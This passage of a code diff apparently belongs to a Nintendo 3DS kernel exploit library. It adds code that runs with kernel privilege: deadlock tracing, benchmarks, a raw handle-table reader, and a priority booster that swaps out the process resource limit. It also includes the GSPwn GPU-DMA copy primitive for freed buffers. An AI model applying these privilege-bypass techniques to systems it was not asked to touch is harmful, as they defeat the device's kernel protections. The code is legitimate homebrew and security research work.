+	const void *object = helper ? helper->m_waitingOnObject : nullptr;
+	if (!object)
+	{
+		return MakeError(26, 5, KHAX_MODULE, 1016);
+	}
+
+	// We hold the mutex, so we should be its owner; otherwise the KMutex layout is wrong.
+	if (static_cast<const KMutex *>(object)->m_owner != *g_versionData->m_currentKThreadPtr)
+	{
+		return MakeError(27, 11, KHAX_MODULE, 1023);
+	}
+
+	s_mutexVTable = *static_cast<const void *const *>(object);
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Take a snapshot.  Runs as svcBackdoor.  Only registered threads are dereferenced, since the
+// registry's handles keep them alive.  The objects they wait on are only read for their vtable
+// and owner, and owners are compared against the registry rather than followed, so a thread of
+// another process, or an object released by the other core as we look, is never dereferenced.
+// The objects' own waiter lists aren't walked for the same reason.
+Result KHAX::WaitGraph::KernelSnapshot(void *context)
+{
+	u64 tick = *static_cast<const u64 *>(context);
+
+	// Disabling interrupts only stops this core from switching threads; the other core keeps
+	// running, so waits may start or end as we read them.
+	KernelCriticalSection criticalSection;
+
+	++s_snapshot;
+	s_snapshotTick = tick;
+	s_cycleCount = 0;
+
+	for (unsigned x = 0; x < ThreadRegistry::MAX_THREADS; ++x)
+	{
+		const KThread *thread = ThreadRegistry::s_threads[x];
+		ThreadWait &wait = s_waits[x];
+
+		// A different thread in this slot means the old one's wait is lost.
+		if (thread != wait.m_thread)
+		{
+			wait.m_thread = thread;
+			wait.m_threadID = thread ? thread->m_threadID : 0;
+			wait.m_object = nullptr;
+		}
+
+		if (!thread)
+		{
+			continue;
+		}
+
+		const void *object = thread->m_waitingOnObject;
+		if (object != wait.m_object)
+		{
+			if (wait.m_object)
+			{
+				EndWait(wait);
+			}
+			wait.m_object = object;
+			wait.m_since = tick;
+		}
+		wait.m_lastSeen = tick;
+
+		if (!object)
+		{
+			continue;
+		}
+
+		Object *entry = FindObject(object, true);
+		if (entry && (entry->m_snapshot != s_snapshot))
+		{
+			entry->m_waiterCount = 0;
+			for (const KThread *waiter : ThreadRegistry::s_threads)
+			{
+				if (waiter && (waiter->m_waitingOnObject == object))
+				{
+					if (entry->m_waiterCount < MAX_WAITERS)
+					{
+						entry->m_waiters[entry->m_waiterCount] = waiter->m_threadID;
+					}
+					++entry->m_waiterCount;
+				}
+			}
+
+			entry->m_isMutex = IsMutex(object);
+			const KThread *owner = entry->m_isMutex ? static_cast<const KMutex *>(object)->m_owner : nullptr;
+			bool registered = owner && IsRegistered(owner);
+			entry->m_ownerThreadID = registered ? owner->m_threadID : 0;
+			entry->m_ownerUnregistered = owner && !registered;
+			entry->m_snapshot = s_snapshot;
+
+			criticalSection.Checkpoint();
+		}
+
+		FollowOwners(thread);
+	}
+
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Find an object's entry, adding it if asked.  When full, the entry least recently seen is
+// evicted, unless that is one seen by this snapshot.
+KHAX::WaitGraph::Object *KHAX::WaitGraph::FindObject(const void *object, bool add)
+{
+	for (u32 x = 0; x < s_objectCount; ++x)
+	{
+		if (s_objects[x].m_object == object)
+		{
+			return &s_objects[x];
+		}
+	}
+
+	if (!add)
+	{
+		return nullptr;
+	}
+
+	Object *entry;
+	if (s_objectCount < MAX_OBJECTS)
+	{
+		entry = &s_objects[s_objectCount++];
+	}
+	else
+	{
+		entry = std::min_element(s_objects, s_objects + MAX_OBJECTS,
+			[](const Object &left, const Object &right) { return left.m_snapshot < right.m_snapshot; });
+		if (entry->m_snapshot == s_snapshot)
+		{
+			return nullptr;
+		}
+		++s_evictedCount;
+	}
+
+	std::memset(entry, 0, sizeof(*entry));
+	entry->m_object = object;
+	return entry;
+}
+
+//------------------------------------------------------------------------------------------------
+// Whether a kernel thread is one of the registered threads.
+bool KHAX::WaitGraph::IsRegistered(const KThread *thread)
+{
+	const KThread *const *begin = ThreadRegistry::s_threads;
+	const KThread *const *end = begin + ThreadRegistry::MAX_THREADS;
+	return std::find(begin, end, thread) != end;
+}
+
+//------------------------------------------------------------------------------------------------
+// Whether a kernel object is a mutex.
+bool KHAX::WaitGraph::IsMutex(const void *object)
+{
+	return s_mutexVTable && (*static_cast<const void *const *>(object) == s_mutexVTable);
+}
+
+//------------------------------------------------------------------------------------------------
+// Follow mutex owners from a thread, recording a cycle if it leads back to the thread.  Each
+// thread waits on at most one object, so a chain either ends or loops.  The chain also ends at
+// an owner that isn't registered, since only registered threads are safe to follow.  Only the
+// member with the lowest address records a cycle, so that each is recorded once.
+void KHAX::WaitGraph::FollowOwners(const KThread *thread)
+{
+	const KThread *chain[MAX_CHAIN];
+	unsigned length = 0;
+
+	for (const KThread *current = thread; current && (length < MAX_CHAIN); )
+	{
+		if (current == thread && length > 0)
+		{
+			if ((*std::min_element(chain, chain + length) == thread) && (s_cycleCount < MAX_CYCLES))
+			{
+				Cycle &cycle = s_cycles[s_cycleCount++];
+				cycle.m_length = length;
+				for (unsigned x = 0; x < length; ++x)
+				{
+					cycle.m_threadIDs[x] = chain[x]->m_threadID;
+				}
+			}
+			return;
+		}
+
+		chain[length++] = current;
+
+		const void *object = current->m_waitingOnObject;
+		current = (object && IsMutex(object)) ? static_cast<const KMutex *>(object)->m_owner : nullptr;
+		if (current && !IsRegistered(current))
+		{
+			break;
+		}
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// Record a wait that has ended into its object's histogram.  The wait is known to have lasted at
+// least from the first snapshot that saw it to the last.
+void KHAX::WaitGraph::EndWait(const ThreadWait &wait)
+{
+	Object *entry = FindObject(wait.m_object, false);
+	if (!entry)
+	{
+		return;
+	}
+
+	u64 ticks = wait.m_lastSeen - wait.m_since;
+	unsigned bucket = 0;
+	while ((bucket < HISTOGRAM_BUCKETS - 1) && (ticks >> (bucket + 1)))
+	{
+		++bucket;
+	}
+	++entry->m_histogram[bucket];
+}
+
+
+#ifdef KHAX_DEBUG_TRACE
+//------------------------------------------------------------------------------------------------
+//
+// Class TraceBuffer
+//
+
+//------------------------------------------------------------------------------------------------
+KHAX::TraceBuffer::Entry KHAX::TraceBuffer::s_entries[SIZE];
+u32 KHAX::TraceBuffer::s_head = 0;
+u32 KHAX::TraceBuffer::s_tail = 0;
+
+const char *const KHAX::TraceBuffer::s_eventNames[EVENT_COUNT] =
+{
+	"Step6b:enter",
+	"Step6c:unpatched",
+	"Step6d:fixed",
+	"Step6e:granted",
+	"Step6b:leave",
+	"KernelCall:enter",
+	"KernelCall:leave",
+	"window split",
+};
+
+//------------------------------------------------------------------------------------------------
+// Add a record.  SVC privilege only, because of the cycle counter.
+void KHAX::TraceBuffer::Add(Event event, u32 arg0, u32 arg1)
+{
+	u32 cpu;
+	__asm__ volatile ("mrc p15, 0, %0, c0, c0, 5\n" : "=r"(cpu));
+
+	u32 index = __sync_fetch_and_add(&s_head, 1);
+	Entry &entry = s_entries[index & (SIZE - 1)];
+	entry.m_lap = 0;
+	entry.m_cycles = kernelGetCycleCounter();
+	entry.m_event = event;
+	entry.m_cpu = static_cast<u8>(cpu & (CPU_COUNT - 1));
+	entry.m_arg0 = arg0;
+	entry.m_arg1 = arg1;
+
+	// Data memory barrier, so that the record is complete before its lap says so.
+	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 5\n" :: "r"(0) : "memory");
+	entry.m_lap = LapOf(index);
+}
+
+//------------------------------------------------------------------------------------------------
+// Decode the records written since the last drain into a file.  Each core has its own cycle
+// counter, so times are in that core's cycles since its first record in this drain, and only
+// compare between records of the same core.  A record still being written ends the drain; it
+// and those after it are left for the next one.
+Result KHAX::TraceBuffer::Drain(FILE *file)
+{
+	u32 head = s_head;
+	u32 tail = s_tail;
+
+	// Anything older than one buffer's worth has been overwritten.
+	if (head - tail > SIZE)
+	{
+		std::fprintf(file, "(%lu records lost)\n", static_cast<unsigned long>(head - tail - SIZE));
+		tail = head - SIZE;
+	}
+
+	std::fprintf(file, "(cycles are per core, since that core's first record)\n");
+
+	u32 start[CPU_COUNT];
+	bool started[CPU_COUNT] = { };
+	for (; tail != head; ++tail)
+	{
+		const Entry &slot = s_entries[tail & (SIZE - 1)];
+
+		// Copy the record out, and check that it was complete, and still this lap's, throughout.
+		u8 lap = slot.m_lap;
+		__asm__ volatile ("mcr p15, 0, %0, c7, c10, 5\n" :: "r"(0) : "memory");
+		Entry entry;
+		entry.m_cycles = slot.m_cycles;
+		entry.m_event = slot.m_event;
+		entry.m_cpu = slot.m_cpu;
+		entry.m_arg0 = slot.m_arg0;
+		entry.m_arg1 = slot.m_arg1;
+		__asm__ volatile ("mcr p15, 0, %0, c7, c10, 5\n" :: "r"(0) : "memory");
+		if ((lap != LapOf(tail)) || (slot.m_lap != lap))
+		{
+			std::fprintf(file, "(record %lu incomplete; left for the next drain)\n", static_cast<unsigned long>(tail));
+			break;
+		}
+
+		unsigned cpu = entry.m_cpu & (CPU_COUNT - 1);
+		if (!started[cpu])
+		{
+			start[cpu] = entry.m_cycles;
+			started[cpu] = true;
+		}
+
+		std::fprintf(file, "%10lu cpu%u %-18s %08lx %08lx\n", static_cast<unsigned long>(entry.m_cycles - start[cpu]),
+			cpu, (entry.m_event < EVENT_COUNT) ? s_eventNames[entry.m_event] : "?",
+			static_cast<unsigned long>(entry.m_arg0), static_cast<unsigned long>(entry.m_arg1));
+	}
+
+	s_tail = tail;
+	return 0;
+}
+#endif
+
+
+//------------------------------------------------------------------------------------------------
+//
+// Class Benchmark
+//
+
+//------------------------------------------------------------------------------------------------
+// Run them all, writing the results to a file.
+Result KHAX::Benchmark::Run(const char *path, u32 iterations)
+{
+	if (!path)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	if (iterations == 0)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1004);
+	}
+
+	u32 *samples = new(std::nothrow) u32[iterations];
+	unsigned char *source = static_cast<unsigned char *>(linearMemAlign(BUFFER_SIZE, 0x1000));
+	unsigned char *dest = static_cast<unsigned char *>(linearMemAlign(BUFFER_SIZE, 0x1000));
+	FILE *file = (samples && source && dest) ? std::fopen(path, "w") : nullptr;
+
+	Result result = 0;
+	if (!samples || !source || !dest)
+	{
+		result = MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+	else if (!file)
+	{
+		result = MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+	else
+	{
+		std::memset(source, 0xA5, BUFFER_SIZE);
+		std::memset(dest, 0, BUFFER_SIZE);
+		std::fprintf(file, "name,iterations,result,min,median,p99,mean\n");
+
+		// Keep the results of pure functions alive.
+		const void *volatile sink;
+
+		Time(file, "version.get_for_current_system", samples, iterations, [&]()
+		{
+			sink = VersionData::GetForCurrentSystem();
+			return Result(0);
+		});
+
+		if (const VersionData *versionData = VersionData::GetForCurrentSystem())
+		{
+			Time(file, "version.convert_linear_to_kernel", samples, iterations, [&]()
+			{
+				sink = versionData->ConvertLinearUserVAToKernelVA(source);
+				return Result(0);
+			});
+		}
+
+		Time(file, "address.convert_batch_64", samples, iterations, [&]()
+		{
+			u32 in[64];
+			u32 out[64];
+			for (u32 x = 0; x < KHAX_lengthof(in); ++x)
+			{
+				in[x] = reinterpret_cast<std::uintptr_t>(source) + x * 0x40;
+			}
+			return khaxConvertAddresses(KHAX_ADDRESS_USER, KHAX_ADDRESS_PHYSICAL, in, out, KHAX_lengthof(in), 0x40);
+		});
+
+		Time(file, "cache.nuke", samples, iterations, []() { return NukeDataCache(); });
+		Time(file, "cache.invalidate_4k", samples, iterations, [&]() { return userInvalidateDataCache(dest, BUFFER_SIZE); });
+		Time(file, "cache.flush_4k", samples, iterations, [&]() { return userFlushDataCache(source, BUFFER_SIZE); });
+
+		// GSPwn under each combination of policies, between two ordinary buffers.
+		static const struct
+		{
+			const char *m_name;
+			KhaxGPUCopyMode m_mode;
+			KhaxCachePolicy m_policy;
+		} s_gspwnCases[] =
+		{
+			{ "gspwn.sync.nuke", KHAX_GPU_COPY_SYNC, KHAX_CACHE_NUKE },
+			{ "gspwn.sync.range", KHAX_GPU_COPY_SYNC, KHAX_CACHE_RANGE },
+			{ "gspwn.overlapped.nuke", KHAX_GPU_COPY_OVERLAPPED, KHAX_CACHE_NUKE },
+			{ "gspwn.overlapped.range", KHAX_GPU_COPY_OVERLAPPED, KHAX_CACHE_RANGE },
+		};
+
+		for (const auto &gspwnCase : s_gspwnCases)
+		{
+			Time(file, gspwnCase.m_name, samples, iterations, [&]()
+				{ return GSPwn(dest, source, BUFFER_SIZE, gspwnCase.m_mode, gspwnCase.m_policy); });
+		}
+
+		if (g_versionData)
+		{
+			Time(file, "kernel.backdoor_round_trip", samples, iterations, []() { return KernelCall(KernelNop, nullptr); });
+		}
+
+		KHAX_UNUSED(sink);
+		std::fclose(file);
+	}
+
+	if (dest)
+	{
+		linearFree(dest);
+	}
+	if (source)
+	{
+		linearFree(source);
+	}
+	delete[] samples;
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Time a caller's function.
+Result KHAX::Benchmark::TimeFunction(Result (*function)(void *context), void *context, u32 iterations,
+	KhaxBenchmarkResult *summary)
+{
+	if (!function || !summary)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	if (iterations == 0)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1004);
+	}
+
+	u32 *samples = new(std::nothrow) u32[iterations];
+	if (!samples)
+	{
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	Measure(samples, iterations, [&]() { return function(context); }, summary);
+	delete[] samples;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Time one primitive into a summary.  A failing primitive stops the run, and gets its result
+// and no times.  BenchmarkLoop does the work; this only supplies the clock.
+template <typename Function>
+void KHAX::Benchmark::Measure(u32 *samples, u32 iterations, Function function, KhaxBenchmarkResult *summary)
+{
+	BenchmarkStats::Summary stats;
+	Result result = BenchmarkLoop::Measure(samples, iterations, WARMUP_ITERATIONS, function,
+		[]() { return svcGetSystemTick(); }, &stats);
+
+	summary->iterations = iterations;
+	summary->result = result;
+	summary->minTicks = stats.m_minTicks;
+	summary->medianTicks = stats.m_medianTicks;
+	summary->p99Ticks = stats.m_p99Ticks;
+	summary->meanTicks = stats.m_meanTicks;
+}
+
+//------------------------------------------------------------------------------------------------
+// Time one primitive and write its line.  A failing primitive gets a line with its result and
+// no times.
+template <typename Function>
+Result KHAX::Benchmark::Time(FILE *file, const char *name, u32 *samples, u32 iterations, Function function)
+{
+	KhaxBenchmarkResult summary;
+	Measure(samples, iterations, function, &summary);
+
+	if (summary.result != 0)
+	{
+		std::fprintf(file, "%s,%lu,%08lx,,,,\n", name, static_cast<unsigned long>(iterations),
+			static_cast<unsigned long>(summary.result));
+		return summary.result;
+	}
+
+	std::fprintf(file, "%s,%lu,%08lx,%lu,%lu,%lu,%llu\n", name, static_cast<unsigned long>(iterations),
+		static_cast<unsigned long>(summary.result), static_cast<unsigned long>(summary.minTicks),
+		static_cast<unsigned long>(summary.medianTicks), static_cast<unsigned long>(summary.p99Ticks),
+		static_cast<unsigned long long>(summary.meanTicks));
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Empty svcBackdoor payload.
+Result KHAX::Benchmark::KernelNop(void *)
+{
+	return 0;
+}
+
+
+//------------------------------------------------------------------------------------------------
+//
+// Class HandleResolver
+//
+
+//------------------------------------------------------------------------------------------------
+LightLock KHAX::HandleResolver::s_lock;
+KHAX::HandleResolver::Entry KHAX::HandleResolver::s_cache[CACHE_SIZE] = { };
+bool KHAX::HandleResolver::s_calibrated = false;
+u32 KHAX::HandleResolver::s_vtables[KHAX_OBJECT_ADDRESS_ARBITER + 1] = { };
+
+//------------------------------------------------------------------------------------------------
+// Resolve a list of handles; misses go to the kernel in batches.
+Result KHAX::HandleResolver::Resolve(const Handle *handles, KhaxHandleInfo *info, u32 count)
+{
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	if ((!handles || !info) && (count > 0))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	LightLock_Lock(&s_lock);
+
+	if (!s_calibrated)
+	{
+		if (Result result = Calibrate())
+		{
+			LightLock_Unlock(&s_lock);
+			return result;
+		}
+	}
+
+	Result result = 0;
+	Batch batch;
+	batch.m_count = 0;
+	for (u32 x = 0; x < count; ++x)
+	{
+		Handle handle = handles[x];
+		const Entry &entry = s_cache[(handle & SLOT_MASK) % CACHE_SIZE];
+		if ((handle != CURRENT_THREAD) && (handle != CURRENT_PROCESS) && (entry.m_handle == handle))
+		{
+			info[x].object = entry.m_object;
+			info[x].vtable = entry.m_vtable;
+			info[x].type = TypeOf(entry.m_vtable);
+			continue;
+		}
+
+		batch.m_handles[batch.m_count] = handle;
+		batch.m_indices[batch.m_count] = x;
+		if (++batch.m_count == BATCH_SIZE)
+		{
+			if (Result flushResult = Flush(batch, info))
+			{
+				result = flushResult;
+			}
+		}
+	}
+
+	if (batch.m_count > 0)
+	{
+		if (Result flushResult = Flush(batch, info))
+		{
+			result = flushResult;
+		}
+	}
+
+	LightLock_Unlock(&s_lock);
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Close a handle and drop it from the cache.
+Result KHAX::HandleResolver::Close(Handle handle)
+{
+	if (g_versionData)
+	{
+		LightLock_Lock(&s_lock);
+		Entry &entry = s_cache[(handle & SLOT_MASK) % CACHE_SIZE];
+		if (entry.m_handle == handle)
+		{
+			entry.m_handle = 0;
+		}
+		LightLock_Unlock(&s_lock);
+	}
+
+	return svcCloseHandle(handle);
+}
+
+//------------------------------------------------------------------------------------------------
+// Set up the lock.
+void KHAX::HandleResolver::InitLock()
+{
+	LightLock_Init(&s_lock);
+}
+
+//------------------------------------------------------------------------------------------------
+// Learn each object type's vtable from objects created for the purpose.
+Result KHAX::HandleResolver::Calibrate()
+{
+	Handle handles[KHAX_OBJECT_ADDRESS_ARBITER + 1] = { };
+	Result result = svcDuplicateHandle(&handles[KHAX_OBJECT_PROCESS], CURRENT_PROCESS);
+	if (result == 0)
+	{
+		result = svcDuplicateHandle(&handles[KHAX_OBJECT_THREAD], CURRENT_THREAD);
+	}
+	if (result == 0)
+	{
+		result = svcCreateEvent(&handles[KHAX_OBJECT_EVENT], RESET_ONESHOT);
+	}
+	if (result == 0)
+	{
+		result = svcCreateMutex(&handles[KHAX_OBJECT_MUTEX], false);
+	}
+	if (result == 0)
+	{
+		result = svcCreateSemaphore(&handles[KHAX_OBJECT_SEMAPHORE], 0, 1);
+	}
+	if (result == 0)
+	{
+		result = svcCreateTimer(&handles[KHAX_OBJECT_TIMER], RESET_ONESHOT);
+	}
+	if (result == 0)
+	{
+		result = svcCreateAddressArbiter(&handles[KHAX_OBJECT_ADDRESS_ARBITER]);
+	}
+
+	if (result == 0)
+	{
+		Batch batch;
+		batch.m_count = 0;
+		for (u32 type = KHAX_OBJECT_PROCESS; type <= KHAX_OBJECT_ADDRESS_ARBITER; ++type)
+		{
+			batch.m_handles[batch.m_count++] = handles[type];
+		}
+
+		result = LookUp(batch);
+		for (u32 x = 0; (result == 0) && (x < batch.m_count); ++x)
+		{
+			if (!batch.m_vtables[x])
+			{
+				// The handle table layout is wrong for this kernel.
+				result = MakeError(27, 11, KHAX_MODULE, 1023);
+			}
+			s_vtables[KHAX_OBJECT_PROCESS + x] = batch.m_vtables[x];
+		}
+	}
+
+	for (Handle handle : handles)
+	{
+		if (handle)
+		{
+			svcCloseHandle(handle);
+		}
+	}
+
+	if (result != 0)
+	{
+		std::memset(s_vtables, 0, sizeof(s_vtables));
+		return result;
+	}
+
+	s_calibrated = true;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Resolve a batch and store the results in info and the cache.
+Result KHAX::HandleResolver::Flush(Batch &batch, KhaxHandleInfo *info)
+{
+	Result result = LookUp(batch);
+	for (u32 x = 0; x < batch.m_count; ++x)
+	{
+		KhaxHandleInfo &out = info[batch.m_indices[x]];
+		out.object = (result == 0) ? batch.m_objects[x] : 0;
+		out.vtable = (result == 0) ? batch.m_vtables[x] : 0;
+		out.type = TypeOf(out.vtable);
+
+		Handle handle = batch.m_handles[x];
+		if (out.object == 0)
+		{
+			if (result == 0)
+			{
+				result = MakeError(28, 4, KHAX_MODULE, 1018);
+			}
+		}
+		else if ((handle != CURRENT_THREAD) && (handle != CURRENT_PROCESS))
+		{
+			Entry &entry = s_cache[(handle & SLOT_MASK) % CACHE_SIZE];
+			entry.m_handle = handle;
+			entry.m_object = out.object;
+			entry.m_vtable = out.vtable;
+		}
+	}
+
+	batch.m_count = 0;
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Look up a batch, retrying while the kernel holds the handle table's lock.  The other core only
+// holds it briefly, so yielding between attempts is enough.
+Result KHAX::HandleResolver::LookUp(Batch &batch)
+{
+	const Result busy = MakeError(26, 5, KHAX_MODULE, 1022);
+
+	Result result = busy;
+	for (unsigned attempt = 0; (result == busy) && (attempt < LOOKUP_ATTEMPTS); ++attempt)
+	{
+		if (attempt > 0)
+		{
+			svcSleepThread(0);
+		}
+		result = KernelCall(KernelResolve, &batch);
+	}
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Type of an object given its vtable.
+KhaxObjectType KHAX::HandleResolver::TypeOf(u32 vtable)
+{
+	for (u32 type = KHAX_OBJECT_PROCESS; vtable && (type <= KHAX_OBJECT_ADDRESS_ARBITER); ++type)
+	{
+		if (s_vtables[type] == vtable)
+		{
+			return static_cast<KhaxObjectType>(type);
+		}
+	}
+	return KHAX_OBJECT_UNKNOWN;
+}
+
+//------------------------------------------------------------------------------------------------
+// Look up a batch in the handle table.  Runs as svcBackdoor.  We can't take the kernel's lock on
+// the table, so instead the lookup is only trusted if the lock was free both before and after
+// it; otherwise it fails as busy, and LookUp tries again.  The objects themselves are kept alive
+// by the caller's handles, which it mustn't close while they are being resolved.
+Result KHAX::HandleResolver::KernelResolve(void *context)
+{
+	Batch *batch = static_cast<Batch *>(context);
+
+	void *kprocess = *g_versionData->m_currentKProcessPtr;
+	VersionData::KProcessPointers process = g_versionData->m_makeKProcessPointers(kprocess);
+	const KProcessHandleTable *table = process.m_handleTable;
+	u32 slots = *process.m_handleTableSize;
+
+	const Result busy = MakeError(26, 5, KHAX_MODULE, 1022);
+
+	KernelCriticalSection criticalSection;
+
+	// The first word of the lock is its owner, nonzero while held.
+	const volatile u32 *lock = table->m_mutex;
+	if (*lock != 0)
+	{
+		return busy;
+	}
+
+	for (u32 x = 0; x < batch->m_count; ++x)
+	{
+		Handle handle = batch->m_handles[x];
+		const void *object = nullptr;
+		if (handle == CURRENT_THREAD)
+		{
+			object = *g_versionData->m_currentKThreadPtr;
+		}
+		else if (handle == CURRENT_PROCESS)
+		{
+			object = kprocess;
+		}
+		else if ((handle & SLOT_MASK) < slots)
+		{
+			// The slot's generation, in bits 16-31 of m_info, must match the one the handle was
+			// made with, in bits 15-30 of the handle.
+			const KHandleEntry &entry = table->m_table[handle & SLOT_MASK];
+			if ((entry.m_info >> 16) == ((handle >> GENERATION_SHIFT) & 0xFFFF))
+			{
+				object = entry.m_object;
+			}
+		}
+
+		batch->m_objects[x] = reinterpret_cast<std::uintptr_t>(object);
+		batch->m_vtables[x] = object ? *static_cast<const u32 *>(object) : 0;
+	}
+
+	return (*lock != 0) ? busy : 0;
+}
+
+
+//------------------------------------------------------------------------------------------------
+//
+// Class PriorityBooster
+//
+
+//------------------------------------------------------------------------------------------------
+u32 KHAX::PriorityBooster::s_privateLimit[PriorityMath::RESOURCE_LIMIT_SIZE / sizeof(u32)];
+
+//------------------------------------------------------------------------------------------------
+// Change priorities, saving the old ones first if saved isn't null.
+Result KHAX::PriorityBooster::Boost(const Handle *threads, const s32 *priorities, u32 count,
+	KhaxPriorityBoost *saved)
+{
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	if ((!threads || !priorities) && (count > 0))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	if (count > KHAX_PRIORITY_BOOST_MAX)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1004);
+	}
+
+	s32 highest;
+	if (!PriorityMath::Validate(priorities, count, &highest))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1021);
+	}
+
+	// The KThreads are needed for checking the result, and only our own threads are allowed.
+	KhaxHandleInfo info[KHAX_PRIORITY_BOOST_MAX];
+	if (Result result = HandleResolver::Resolve(threads, info, count))
+	{
+		return result;
+	}
+
+	for (u32 x = 0; x < count; ++x)
+	{
+		if (info[x].type != KHAX_OBJECT_THREAD)
+		{
+			return MakeError(28, 7, KHAX_MODULE, 1015);
+		}
+	}
+
+	if (saved)
+	{
+		saved->count = 0;
+		for (u32 x = 0; x < count; ++x)
+		{
+			if (Result result = svcGetThreadPriority(&saved->priorities[x], threads[x]))
+			{
+				return result;
+			}
+			saved->threads[x] = threads[x];
+			++saved->count;
+		}
+	}
+
+	Request request = { count, threads, info, priorities, highest };
+	return KernelCall(KernelBoost, &request);
+}
+
+//------------------------------------------------------------------------------------------------
+// Put back saved priorities.
+Result KHAX::PriorityBooster::Restore(const KhaxPriorityBoost *saved)
+{
+	if (!saved)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	return Boost(saved->threads, saved->priorities, saved->count, nullptr);
+}
+
+//------------------------------------------------------------------------------------------------
+// Set the priorities through the kernel's handler with the limit lifted in a private copy, then
+// check the threads' KThread priority fields.  Runs as svcBackdoor.
+Result KHAX::PriorityBooster::KernelBoost(void *context)
+{
+	const Request *request = static_cast<const Request *>(context);
+
+	// The handler is called the way the SVC dispatcher calls it, with the arguments in r0 and r1.
+	// It has no outputs, so it doesn't touch the caller's exception frame.
+	typedef Result (*SetThreadPriority)(Handle thread, s32 priority);
+	SetThreadPriority setThreadPriority = reinterpret_cast<SetThreadPriority>(
+		SVCProfiler::KernelFindHandler(SVC_SET_THREAD_PRIORITY));
+	if (!setThreadPriority)
+	{
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	void *kprocess = *g_versionData->m_currentKProcessPtr;
+	VersionData::KProcessPointers process = g_versionData->m_makeKProcessPointers(kprocess);
+	KResourceLimit *shared = *process.m_resourceLimits;
+
+	// Swap the copy in and out with interrupts off, so that nothing on this core sees it in
+	// between.  Anything another core charges to it meanwhile is passed on to the real object.
+	KernelCriticalSection criticalSection;
+	s32 before[PriorityMath::RESOURCE_LIMIT_VALUE_COUNT] = { };
+	if (shared)
+	{
+		std::memcpy(s_privateLimit, shared, sizeof(s_privateLimit));
+		std::memcpy(before, shared->m_currentValues, sizeof(before));
+		PriorityMath::LiftLimit(s_privateLimit, request->m_highest);
+		*process.m_resourceLimits = reinterpret_cast<KResourceLimit *>(s_privateLimit);
+	}
+
+	Result result = 0;
+	for (u32 x = 0; (x < request->m_count) && (result == 0); ++x)
+	{
+		result = setThreadPriority(request->m_threads[x], request->m_priorities[x]);
+	}
+
+	// Put the real object back even if a change failed.
+	if (shared)
+	{
+		*process.m_resourceLimits = shared;
+		PriorityMath::TransferCharges(shared, s_privateLimit, before);
+	}
+
+	if (result != 0)
+	{
+		return result;
+	}
+
+	for (u32 x = 0; x < request->m_count; ++x)
+	{
+		const KThread *thread = reinterpret_cast<const KThread *>(request->m_info[x].object);
+		s32 base;
+		s32 dynamic;
+		PriorityMath::ReadPriorities(thread, &base, &dynamic);
+		if ((thread->m_process != kprocess) || !PriorityMath::IsApplied(base, dynamic, request->m_priorities[x]))
+		{
+			return MakeError(27, 11, KHAX_MODULE, 1023);
+		}
+	}
+
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+//
+// Miscellaneous
+//
+
+//------------------------------------------------------------------------------------------------
+// Make an error code
+inline Result KHAX::MakeError(Result level, Result summary, Result module, Result error)
+{
+	return (level << 27) + (summary << 21) + (module << 10) + error;
+}
+
+//------------------------------------------------------------------------------------------------
+// Check whether this system is a New 3DS.
+Result KHAX::IsNew3DS(bool *answer, u32 kernelVersionAlreadyKnown)
+{
+	// If the kernel version isn't already known by the caller, find out.
+	u32 kernelVersion = kernelVersionAlreadyKnown;
+	if (kernelVersion == 0)
+	{
+		kernelVersion = osGetKernelVersion();
+	}
+
+	// APT_CheckNew3DS doesn't work on < 8.0.0, but neither do such New 3DS's exist.
+	if (kernelVersion >= SYSTEM_VERSION(2, 44, 6))
+	{
+		// Check whether the system is a New 3DS.  If this fails, abort, because being wrong would
+		// crash the system.
+		bool isNew3DS = false;
+		if (Result error = APT_CheckNew3DS(&isNew3DS))
+		{
+			*answer = false;
+			return error;
+		}
+
+		// Use the result of APT_CheckNew3DS.
+		*answer = isNew3DS;
+		return 0;
+	}
+
+	// Kernel is older than 8.0.0, so we logically conclude that this cannot be a New 3DS.
+	*answer = false;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// gspwn, meant for reading from or writing to freed buffers, with the options' copy mode and
+// cache policy.
+Result KHAX::GSPwn(void *dest, const void *src, std::size_t size, bool wait)
+{
+	return GSPwn(dest, src, size, g_options.gpuCopyMode, g_options.cachePolicy, wait);
+}
+
+//------------------------------------------------------------------------------------------------
+// gspwn with a given copy mode and cache policy.
+Result KHAX::GSPwn(void *dest, const void *src, std::size_t size, KhaxGPUCopyMode mode, KhaxCachePolicy policy,
+	bool wait)
+{
+	u64 start = svcGetSystemTick();
+
+	// Copy that floppy.
+	if (Result result = GX_TextureCopy(static_cast<u32 *>(const_cast<void *>(src)), 0,
+		static_cast<u32 *>(dest), 0, size, 8))
+	{
+		KHAX_printf("gspwn:copy fail:%08lx\n", result);
+		return result;
+	}
+
+	// Wait for the operation to finish, before or after the cache maintenance.
+	bool overlapped = (mode == KHAX_GPU_COPY_OVERLAPPED);
+	if (wait && !overlapped)
+	{
+		gspWaitForPPF();
+	}
+
+	// Make the CPU see what the GPU wrote.
